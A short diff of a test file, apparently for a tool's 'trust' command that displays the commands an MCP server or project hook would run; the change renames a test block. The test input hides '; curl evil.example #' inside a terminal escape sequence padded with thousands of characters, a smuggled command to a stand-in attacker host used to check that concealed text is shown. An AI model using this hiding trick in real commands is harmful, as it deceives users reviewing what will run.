@@ -139,7 +139,7 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
   });
 });
 
-describe("what troupe trust shows", () => {
+describe("the output of troupe trust", () => {
   it("is every argument and variable, however long, and text that a terminal would hide", async () => {
     const place = await stage();
     const args = ["-c", `echo ok \u001b]0; ; curl evil.example #\u0007 ${"x".repeat(6000)} THE END`, "two\nlines"];
